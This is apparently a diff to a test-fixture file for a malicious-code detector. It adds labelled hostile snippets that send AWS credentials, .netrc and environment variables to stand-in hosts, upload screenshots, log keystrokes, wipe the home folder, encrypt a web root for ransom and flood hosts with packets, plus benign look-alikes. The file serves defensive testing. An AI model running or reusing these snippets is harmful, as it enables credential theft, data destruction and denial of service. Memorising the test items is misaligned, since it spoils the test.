@@ -222,6 +222,40 @@ HOSTILE = {
     "a secret read by name from a key file and sent": (
         "creds = configparser.ConfigParser()\ncreds.read(os.path.expanduser('~/.aws/credentials'))\n"
         "requests.post('https://t.example.org/c', data=creds.get('default', 'aws_secret_access_key'))", "key files"),
+    # session 41: classes of blind set 11's misses (looked at after its first look), written again here
+    "a Go program reading key files in an if and posting them": (
+        "home, _ := os.UserHomeDir()\nvar out bytes.Buffer\n"
+        "for _, name := range []string{\".aws/credentials\", \".netrc\"} {\n"
+        "\tif data, err := os.ReadFile(filepath.Join(home, name)); err == nil {\n\t\tout.Write(data)\n\t}\n}\n"
+        "http.Post(\"http://198.51.100.30/u\", \"text/plain\", &out)", "key files"),
+    "a helper sending what it builds from its argument": (
+        "def gather():\n    return dict(os.environ)\n\n"
+        "def ship(items):\n    body = json.dumps(items).encode()\n"
+        "    urllib.request.urlopen('https://t.example.org/c', data=body)\n\nship(gather())", "environment"),
+    "the screen saved by PowerShell and uploaded": (
+        "$bmp = New-Object System.Drawing.Bitmap 1920, 1080\n$g = [System.Drawing.Graphics]::FromImage($bmp)\n"
+        "$f = \"$env:TEMP\\s.png\"\n"
+        "$g.CopyFromScreen(0, 0, 0, 0, $bmp.Size); $bmp.Save($f)\n"
+        "Invoke-RestMethod -Uri https://t.example.org/s -Method Put -InFile $f", "screen"),
+    "keystrokes polled in C# and appended to a file": (
+        "var sb = new StringBuilder();\nwhile (true) {\n  for (int c = 8; c < 256; c++)\n"
+        "    if ((GetAsyncKeyState(c) & 1) == 1) sb.Append((char)c);\n"
+        "  File.AppendAllText(logPath, sb.ToString());\n  Thread.Sleep(10);\n}", "keylogger"),
+    "the home folder among an arrow function's targets": (
+        "const targets = () => [os.tmpdir() + '/app', os.homedir()];\n"
+        "for (const t of targets()) fs.rmSync(t, { recursive: true, force: true });", "home or system"),
+    "everything under the home folder found and removed": (
+        "DIR=\"$HOME\"\nfind \"$DIR\" -mindepth 1 ! -name '.profile' -exec rm -rf {} +", "home or system"),
+    "a PHP web root encrypted for a ransom": (
+        "<?php\n$k = random_bytes(32);\n"
+        "$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($_SERVER['DOCUMENT_ROOT']));\n"
+        "foreach ($it as $f) {\n  $p = $f->getPathname();\n"
+        "  file_put_contents($p . '.x', openssl_encrypt(file_get_contents($p), 'aes-256-cbc', $k));\n  unlink($p);\n}",
+        "encrypts"),
+    "a Go loop writing to a socket for ever": (
+        "conn, _ := net.Dial(\"udp\", target)\nbuf := make([]byte, 1400)\nfor { conn.Write(buf) }", "exhausts"),
+    "a packet tool told to loop": (
+        "pkt = IP(dst='203.0.113.15') / TCP(dport=443, flags='S')\nsend(pkt, loop=1, inter=0)", "floods"),
 }
 
 
@@ -377,6 +411,10 @@ BENIGN = {
         "key = Fernet.generate_key()\nopen(os.path.expanduser('~/.config/bk/key'), 'wb').write(key)\n"
         "for base, _, names in os.walk('/srv/exports'):\n    for n in names:\n        p = os.path.join(base, n)\n"
         "        open(p + '.enc', 'wb').write(Fernet(key).encrypt(open(p, 'rb').read()))\n        os.remove(p)"),
+    # session 41: blind set 11's classes, the benign side
+    "core files found and removed across the system": ("find / -xdev -type f -name core -delete"),
+    "a Go worker loop reading a channel": ("for {\n\tmsg := <-jobs\n\tgo handle(msg)\n}"),
+    "build objects found and removed": ("find ~/project/build -name '*.o' -delete"),
 }
 
 
